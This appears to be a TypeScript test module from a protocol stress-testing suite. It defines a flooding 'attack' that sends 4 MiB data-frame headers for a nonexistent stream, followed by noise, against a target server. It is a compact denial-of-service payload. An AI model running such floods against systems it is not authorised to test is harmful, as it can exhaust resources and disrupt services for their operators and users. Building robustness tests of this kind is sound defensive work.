/** Frames of 4 MiB, for a stream that is not there, which all but end. */
import type { Behaviour } from '../attack/target.js'
import { flooding, FRAME, header, noise1MiB } from '../attack/wire.js'

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => n === 0 ? header(FRAME.data, 0, 1, 4 * 1024 ** 2) : n < 4 ? noise1MiB : new Uint8Array(1), { count: 8, ms: 10 })
